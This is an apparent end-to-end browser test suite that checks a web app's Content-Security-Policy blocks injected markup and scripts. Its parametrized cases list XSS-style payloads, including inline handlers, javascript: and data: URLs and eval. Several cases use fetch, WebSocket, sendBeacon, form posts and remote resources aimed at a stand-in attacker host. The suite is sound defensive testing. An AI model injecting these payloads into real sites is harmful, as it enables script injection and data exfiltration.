"""Every page runs under its own Content-Security-Policy, and nothing that is smuggled into one does."""

from collections.abc import AsyncIterator
from typing import Any, Final

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, expect

from tests.e2e.factories import World
from tests.e2e.server import Server
from tests.e2e.visitors import SIGN_IN, Visitors, button

_CLIENT: Final = ".web/build/client"


def pages_of(server: Server) -> list[str]:
    """Return the address of every page that was built."""
    build = server.build / _CLIENT
    files = (file.relative_to(build).with_suffix("").as_posix() for file in build.rglob("*.html"))
    return sorted(f"/{name}" for name in files if not name.endswith("index") and name[0] != "_")


async def test_every_page_is_quiet_under_its_policy_whoever_looks(
    visitors: Visitors, server: Server, world: World
) -> None:
    paths = pages_of(server)
    assert {SIGN_IN, "/pricing", "/settings/billing", "/settings/billing/return"} <= {*paths}
    somebody = await world.subscriber("pro")
    for person in (None, somebody):
        page = await visitors.profile(person)
        for path in ("/", *paths, "/api/docs"):
            answer = await page.goto(path)
            assert answer is not None
            policy = answer.headers["content-security-policy"]
            assert "frame-ancestors 'none'" in policy
            assert "unsafe-eval" not in policy
            await expect(page.get_by_role("heading", level=1).first).to_be_visible()
    # That there were no complaints is checked for every test when its visitors leave.


@pytest_asyncio.fixture(loop_scope="session")
async def page(browser: Browser, server: Server) -> AsyncIterator[Page]:
    """A page of ours that somebody has got a hand into; it complains, and is meant to."""
    context = await browser.new_context()
    opened = await context.new_page()
    await opened.goto(f"{server.base_url}{SIGN_IN}")
    await expect(button(opened, "Sign in")).to_be_visible()
    await opened.evaluate(
        """
        () => {
          window.harmed = false;
          window.refused = [];
          document.addEventListener("securitypolicyviolation", (event) => {
            window.refused.push(event.effectiveDirective);
          });
        }
        """
    )
    yield opened
    await context.close()


@pytest.mark.parametrize(
    ("smuggled", "directive"),
    [
        ("<img src='/favicon.ico' onload='window.harmed = true'>", "script-src-attr"),
        ("<img src='https://evil.example/pixel'>", "img-src"),
        ("<iframe src='https://evil.example/'></iframe>", "frame-src"),
        ("<object data='https://evil.example/'></object>", "object-src"),
        ("<p style='background: url(https://evil.example/pixel)'>x</p>", "style-src-attr"),
        ("<style>body { background: url(https://evil.example/pixel) }</style>", "img-src"),
        ("<link rel='stylesheet' href='https://evil.example/x.css'>", "style-src-elem"),
        ("<video src='https://evil.example/x.mp4'></video>", "media-src"),
        ("<base href='https://evil.example/'>", "base-uri"),
    ],
)
async def test_markup_that_is_smuggled_in_does_nothing(
    page: Page, smuggled: str, directive: str
) -> None:
    await page.evaluate(
        "(markup) => document.body.insertAdjacentHTML('beforeend', markup)", smuggled
    )
    await page.wait_for_function("(name) => window.refused.includes(name)", arg=directive)
    assert await page.evaluate("window.harmed") is False


async def test_a_document_within_the_page_is_held_to_the_same(page: Page) -> None:
    await page.evaluate(
        """
        () => new Promise((loaded) => {
          const frame = document.createElement("iframe");
          frame.srcdoc = "<script>parent.harmed = true</script>";
          frame.onload = loaded;
          document.body.append(frame);
        })
        """
    )
    assert await page.evaluate("window.harmed") is False


@pytest.mark.parametrize(
    ("script", "directive"),
    [
        ("append('script', { text: 'window.harmed = true' })", "script-src-elem"),
        ("append('script', { src: 'https://evil.example/x.js' })", "script-src-elem"),
        ("append('script', { src: 'data:text/javascript,window.harmed=true' })", "script-src-elem"),
        ("append('a', { href: 'javascript:window.harmed=true' }).click()", "script-src-elem"),
        ("setTimeout('window.harmed = true')", "script-src"),
        ("new Worker('data:text/javascript,0')", "worker-src"),
        ("fetch('https://evil.example/').catch(() => {})", "connect-src"),
        ("new WebSocket('wss://evil.example/')", "connect-src"),
        ("navigator.sendBeacon('https://evil.example/')", "connect-src"),
        (
            "append('form', { action: 'https://evil.example/', method: 'post' }).submit()",
            "form-action",
        ),
    ],
)
async def test_what_reaches_for_another_place_or_for_new_code_is_refused(
    page: Page, script: str, directive: str
) -> None:
    await page.evaluate(
        f"""
        () => {{
          const append = (tag, values) => {{
            const made = Object.assign(document.createElement(tag), values);
            document.body.append(made);
            return made;
          }};
          try {{ {script} }} catch (error) {{}}
        }}
        """
    )
    await page.wait_for_function("(name) => window.refused.includes(name)", arg=directive)
    assert await page.evaluate("window.harmed") is False


async def test_no_text_becomes_code(page: Page) -> None:
    # Through a script of the page's own, for a debugger's are not held to its policy.
    outcome: Any = await page.evaluate(
        """
        () => new Promise((tell) => {
          const results = [];
          const attempts = [(text) => eval(text), (text) => new Function(text)()];
          setTimeout(() => {
            for (const attempt of attempts) {
              try { attempt("window.harmed = true"); results.push("done"); }
              catch (error) { results.push(error.name); }
            }
            tell(results);
          });
        })
        """
    )
    assert outcome == ["EvalError", "EvalError"]
    assert await page.evaluate("window.harmed") is False
